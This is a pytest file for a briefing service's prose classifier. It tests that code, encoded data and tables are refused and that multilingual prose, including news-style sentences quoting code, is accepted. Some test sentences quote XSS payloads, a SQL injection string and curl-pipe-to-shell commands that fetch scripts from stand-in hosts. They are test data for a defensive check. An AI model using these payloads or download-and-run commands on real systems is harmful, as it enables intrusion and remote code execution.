"""Text that is not prose gets 422 ``not_prose`` before it reaches the model; prose in any
language and script is briefed."""

from __future__ import annotations

import base64
import json
import random
import unicodedata

import pytest

from service.preprocess.html import looks_like_html
from service.preprocess.prose import (
    KINDS,
    LONG_TOKEN,
    MIN_PROSE_SHARE,
    MIN_RUN_WORDS,
    assess,
    block_kind,
    sentence_chars,
)
from tests.prose_samples import CODE_DUMPS, QUOTING_CODE

_rng = random.Random(7)

PYTHON_SOURCE = '''
import os
from pathlib import Path


def load(path: str) -> dict[str, int]:
    counts = {}
    for line in Path(path).read_text().splitlines():
        key, _, value = line.partition("=")
        counts[key.strip()] = int(value or 0)
    return counts


class Store:
    def __init__(self, root):
        self.root = Path(root)
        self.items = [load(p) for p in self.root.glob("*.ini")]

    def total(self):
        return sum(sum(item.values()) for item in self.items)
''' * 20

MINIFIED = (
    "!function(e){var t={};function n(r){if(t[r])return t[r].exports;var o=t[r]={i:r,l:!1,"
    "exports:{}};return e[r].call(o.exports,o,o.exports,n),o.l=!0,o.exports}n.m=e,n.c=t,"
    "n.d=function(e,t,r){n.o(e,t)||Object.defineProperty(e,t,{enumerable:!0,get:r})}}"
) * 600

NOT_PROSE = {
    "one letter": ("a" * 400_000, "encoded"),
    "one letter, spaced": ("aaaa " * 60_000, "repeated"),
    "one word": ("buffalo " * 20_000, "repeated"),
    "one CJK character": ("哈" * 50_000, "repeated"),
    "digits": ("".join(_rng.choice("0123456789") for _ in range(150_000)), "letters"),
    "base64": (base64.b64encode(_rng.randbytes(60_000)).decode(), "encoded"),
    "base64 lines": (base64.encodebytes(_rng.randbytes(30_000)).decode(), "encoded"),
    "hex": (_rng.randbytes(20_000).hex(), "letters"),
    "combining accents": ("a" + "\u0301" * 100_000, "marks"),
    "zalgo": ("".join(c + "\u0300\u0301\u0302\u0303\u0304\u0305" for c in "the quick fox " * 500),
              "marks"),
    "minified script": (MINIFIED, "code"),
    "python": (PYTHON_SOURCE, "code"),
    "json": (json.dumps([{"id": i, "name": f"item {i}"} for i in range(2_000)], indent=2),
             "letters"),
    "markup": ('<div class="a"><span id="x">Hello</span></div>\n' * 2_000, "code"),
    "tab-separated table": ("\n".join(f"Smith John\tOslo\tEngineer\t{i}" for i in range(500)),
                            "table"),
    "comma-separated table": ("\n".join(f"John,Smith,Oslo,Engineer{i}" for i in range(500)),
                              "table"),
    "number table": ("\n".join(f"{i}\t{i * 3.5}\t{i * 7}" for i in range(500)), "letters"),
    "emoji": ("😀🎉🔥" * 100, "letters"),
}

PROSE = {
    "en": "The council approved the budget on Monday after a long debate. Officials said the "
          "new library will open in 2027, and the mayor thanked residents for their patience.",
    "ar": "وافق المجلس البلدي يوم الاثنين على الميزانية الجديدة بعد نقاش طويل. وقال المسؤولون إن "
          "المكتبة الجديدة ستفتح أبوابها في عام 2027، وشكر رئيس البلدية السكان على صبرهم.",
    "zh": "市议会周一在长时间辩论后批准了新预算。"
          "官员表示，新图书馆将于2027年开放，市长感谢居民的耐心。",
    "ja": "市議会は月曜日、長い議論の末に新しい予算を承認した。"
          "当局者によると、新しい図書館は2027年に開館する予定で、市長は住民の忍耐に感謝した。",
    "no": "Bystyret vedtok budsjettet mandag etter en lang debatt. Tjenestemenn sa at det nye "
          "biblioteket åpner i 2027, og ordføreren takket innbyggerne for tålmodigheten.",
    "ru": "Городской совет в понедельник после долгих дебатов утвердил бюджет. По словам "
          "чиновников, новая библиотека откроется в 2027 году.",
    "hi": "नगर परिषद ने सोमवार को लंबी बहस के बाद बजट को मंजूरी दे दी। अधिकारियों ने कहा कि नया "
          "पुस्तकालय 2027 में खुलेगा।",
    "th": "สภาเมืองอนุมัติงบประมาณเมื่อวันจันทร์หลังจากการอภิปรายอันยาวนาน "
          "เจ้าหน้าที่กล่าวว่าห้องสมุดแห่งใหม่จะเปิดในปี 2027",
    "ko": "시의회는 월요일 오랜 논쟁 끝에 예산안을 승인했다. "
          "관계자들은 새 도서관이 2027년에 문을 열 것이라고 말했다.",
    "el": "Το δημοτικό συμβούλιο ενέκρινε τον προϋπολογισμό τη Δευτέρα μετά από μακρά συζήτηση.",
    "he": "מועצת העיר אישרה ביום שני את התקציב לאחר דיון ארוך. גורמים רשמיים אמרו כי הספרייה "
          "החדשה תיפתח ב-2027.",
    "my": "မြို့တော်ကောင်စီသည် တနင်္လာနေ့တွင် ရှည်လျားသော ဆွေးနွေးမှုအပြီး ဘတ်ဂျက်ကို "
          "အတည်ပြုခဲ့သည်။",
    "vi (decomposed)": unicodedata.normalize(
        "NFD", "Hội đồng thành phố đã thông qua ngân sách vào thứ Hai sau một cuộc tranh luận dài."
    ),
    "numbers in prose": "Revenue rose 12.5% to $4.3bn in the third quarter of 2024, from "
                        "$3.8bn, while costs of $1,250,000 were booked; shares rose 3.2%.",
    "a headline alone": "Fire breaks out in Oslo harbour",
}


@pytest.mark.parametrize("name", sorted(NOT_PROSE))
def test_each_kind_of_non_prose_is_named(name: str) -> None:
    text, kind = NOT_PROSE[name]
    verdict = assess(text)
    assert not verdict.prose
    assert verdict.kind == kind and kind in KINDS
    assert verdict.description


@pytest.mark.parametrize("language", sorted(PROSE))
def test_prose_in_any_script_is_prose(language: str) -> None:
    verdict = assess(PROSE[language])
    assert verdict.prose and verdict.kind is None


def test_an_article_with_a_small_table_or_snippet_is_still_prose() -> None:
    article = "\n\n".join([PROSE["en"]] * 6)
    table = "\n".join(f"Oslo\t{i}\t{i * 2}" for i in range(6))
    assert block_kind(table) is not None
    assert assess(f"{article}\n\n{table}\n\n{article}").prose
    assert not assess(f"{PROSE['en']}\n\n{MINIFIED[:5_000]}").prose  # mostly script


def test_the_api_refuses_non_prose_before_the_model(make_client, monkeypatch) -> None:
    client = make_client()
    service = client.app.state.service

    def never(*_: object) -> list[str]:
        raise AssertionError("the engine must not see non-prose")

    monkeypatch.setattr(service.engine, "generate", never)
    for name, (text, _) in NOT_PROSE.items():
        if name == "markup":
            continue  # a page: its extracted text is judged (one word here)
        response = client.post("/v1/briefings", json={"text": text})
        assert response.status_code == 422, name
        error = response.json()["error"]
        assert error["code"] == "not_prose", name
        assert "prose" in error["message"] and "ordinary words" in error["message"]
    as_plain = client.post("/v1/briefings", content="7" * 100_000,
                           headers={"Content-Type": "text/plain"})
    assert as_plain.json()["error"]["code"] == "not_prose"
    assert service.store.count() == 0  # refused, not accepted: nothing stored


def test_prose_in_several_scripts_is_briefed_by_the_model(seq2seq_client) -> None:
    for language in ("ar", "zh", "ja", "no", "ru", "hi"):
        response = seq2seq_client.post("/v1/briefings", json={"text": PROSE[language]})
        assert response.status_code == 200, (language, response.text)
        body = response.json()
        assert body["engine"] == "seq2seq" and body["long"] is not None


def test_prose_in_several_scripts_is_briefed_by_the_extractive_engine(make_client) -> None:
    client = make_client()
    for language in ("ar", "zh", "ko", "el", "he", "th", "my"):
        text = "\n\n".join([PROSE[language], PROSE[language].replace("2027", "2028")])
        response = client.post("/v1/briefings", json={"text": text})
        assert response.status_code == 200, (language, response.text)
        assert response.json()["short"], language


def _marathon(paragraphs: int) -> str:
    story = "\n\n".join(
        f"The city marathon drew {n + 3000} runners on Sunday, and the winner, Ana Ruiz of "
        "Porto, finished in record time after a late surge past the leaders near the harbour, "
        "officials said." for n in range(paragraphs))
    results = "\n".join(f"{i}\tRunner {i}\tClub {i % 7}\t2:{10 + i // 10}:{i % 60:02d}"
                        for i in range(1, 120))
    return f"{story}\n\n{results}"


def test_a_story_with_a_long_results_table_is_prose(make_client) -> None:
    verdict = assess(_marathon(8))  # ~1,200 characters of prose beside ~3,000 of table
    assert verdict.prose and verdict.prose_share < 0.5 and verdict.kind in ("table", "letters")
    response = make_client().post("/v1/briefings", json={"text": _marathon(8)})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["short"].startswith("The city marathon drew")
    assert "Runner" not in body["long"]  # the rows are ranked behind the sentences
    assert any("% of the text is not prose" in w for w in body["warnings"])
    # A sentence or two above a table is not a story: refused as before.
    assert not assess(_marathon(2)).prose
    # Prose beside encoded data or code is judged by share alone.
    story = _marathon(8).split("\n1\t")[0]
    assert not assess(f"{story}\n\n{MINIFIED[:20_000]}").prose


# --- Prose that quotes code is prose (issue 20, item 10) ------------------------------------
# Judged by how much of the text reads as sentences, not by the presence of code: news about
# software, security flaws and the web quotes payloads, snippets, tags, commands and JSON.


@pytest.mark.parametrize("name", sorted(QUOTING_CODE))
def test_prose_that_quotes_code_is_prose(name: str) -> None:
    verdict = assess(QUOTING_CODE[name])
    assert verdict.prose, verdict
    assert verdict.prose_share >= MIN_PROSE_SHARE


@pytest.mark.parametrize("name", sorted(CODE_DUMPS))
def test_mostly_code_markup_a_table_or_encoded_data_is_still_refused(name: str) -> None:
    verdict = assess(CODE_DUMPS[name])
    assert not verdict.prose, verdict
    assert verdict.prose_share < MIN_PROSE_SHARE
    assert verdict.kind in KINDS and verdict.description


@pytest.mark.parametrize(
    "paragraph",
    [
        # The cases: a news item quoting an <img onerror> and a <script> payload, a
        # paragraph explaining the <b> and <a> tags (both were 0.0 prose: "code").
        QUOTING_CODE["en: five sentences, two payloads"],
        QUOTING_CODE["en: explaining the b and a tags"],
        QUOTING_CODE["en: four sentences on b and a, in backticks"],
        QUOTING_CODE["de: kurze Meldung mit zwei Payloads"],
    ],
)
def test_a_paragraph_quoting_code_is_a_prose_block(paragraph: str) -> None:
    assert "\n" not in paragraph  # one block
    assert block_kind(paragraph) is None


@pytest.mark.parametrize(
    "sentence",
    [
        "Attackers could post <img src=x onerror=alert(1)> as a comment to run code there.",
        "The login query became SELECT * FROM users WHERE name = '' OR '1'='1' and matched "
        "every account in the table.",
        "A request for /api/v2/bookings?ref=ABC123 returned {\"name\": \"J. Doe\"} for "
        "any reference at all.",
        "Der Eintrag `<script>alert(document.cookie)</script>` wurde ungefiltert im "
        "Gästebuch angezeigt.",  # code after two words: the line holds a sentence
        "`git reflog` finds the commits that a reset seemed to lose.",  # opens the line
        "To install it, the project asks users to run curl -fsSL https://x.example | sh",
        "攻击者使用 curl -s http://192.0.2.8/a.sh | sh 命令下载并运行了恶意脚本。",
    ],
)
def test_the_code_a_sentence_quotes_is_part_of_the_sentence(sentence: str) -> None:
    # All of it (a quoted token counts up to LONG_TOKEN characters).
    assert sentence_chars(sentence) >= sum(min(len(t), LONG_TOKEN) for t in sentence.split())


@pytest.mark.parametrize(
    "line",
    [
        "for line in Path(path).read_text().splitlines():",
        "    return sum(sum(item.values()) for item in self.items)",
        "    c.items[key] = c.list.PushFront(&entry{key, value})",
        "ORDER BY month DESC, revenue DESC;",
        "JOIN customers c ON c.id = o.customer_id",
        ".card { display: grid; grid-template-columns: 1fr 2fr; gap: 1rem; }",
        "GeneralMills.Register(moduleName, configuration, componentMetadata, isVueModule)",
        'echo "deployed $(git rev-parse --short HEAD) to ${#HOSTS[@]} hosts"',
    ],
)
def test_a_line_of_code_is_mostly_not_sentences(line: str) -> None:
    assert sentence_chars(line) < MIN_PROSE_SHARE * len("".join(line.split()))


@pytest.mark.parametrize(
    "line",
    [
        '  "summary": "Heavy rain closed several roads on Monday morning",',  # a value
        '{"标题": "北京今天下雨", "摘要": "暴雨导致多条道路封闭，交通受到严重影响"}',
        "<item><title>Storm floods coastal roads in the north</title></item>",  # an element
        "| Altrincham and Sale West | Sir Graham Brady | altsale@parliament.uk |",  # a row
    ],
)
def test_the_words_of_a_record_or_a_table_row_are_not_sentences(line: str) -> None:
    assert sentence_chars(line) == 0


def test_a_comment_counts_as_a_sentence_but_not_the_code_it_explains() -> None:
    comment = "# Deploy the current branch to the staging servers, one at a time."
    code = 'rsync -az --delete ./dist/ "deploy@${host}:/srv/app/"'
    assert sentence_chars(comment) == len("".join(comment.split()))
    assert sentence_chars(f"{comment}\n{code}") == sentence_chars(comment)
    assert sentence_chars("return counts") == sentence_chars("import os") == 0
    assert MIN_RUN_WORDS == 3


def test_the_share_of_sentences_decides_not_the_presence_of_code() -> None:
    story = QUOTING_CODE["en: release note with a three-line snippet"]
    intro, snippet, outro = story.split("\n\n")
    assert block_kind(snippet) == "code"
    assert assess(story).prose  # a three-line snippet in a release note
    # The same sentences around ever more of the snippet: refused once code is most of it.
    verdicts = [assess("\n\n".join([intro, "\n".join([snippet] * n), outro]))
                for n in (1, 2, 4, 8)]
    shares = [v.prose_share for v in verdicts]
    assert shares == sorted(shares, reverse=True)
    assert verdicts[0].prose and not verdicts[-1].prose and verdicts[-1].kind == "code"


def test_chinese_sentences_weigh_as_much_as_they_say() -> None:
    # A Chinese character says about as much as two letters: a Chinese story quoting a long
    # request line is judged by that, and a Chinese comment does not make a program prose.
    assert assess(QUOTING_CODE["zh: 漏洞请求单独成行"]).prose
    program = "# 读取配置文件并返回每个键的计数。\n" + PYTHON_SOURCE[:600]
    assert not assess(program).prose


def test_the_api_briefs_prose_that_quotes_code(make_client) -> None:
    client = make_client()
    for name, text in QUOTING_CODE.items():
        response = client.post("/v1/briefings", json={"text": text})
        assert response.status_code == 200, (name, response.text)
        assert response.json()["short"], name
    for name, text in CODE_DUMPS.items():
        if looks_like_html(text):
            continue  # a page: its extracted text is judged
        response = client.post("/v1/briefings", json={"text": text})
        assert response.status_code == 422, name
        assert response.json()["error"]["code"] == "not_prose", name
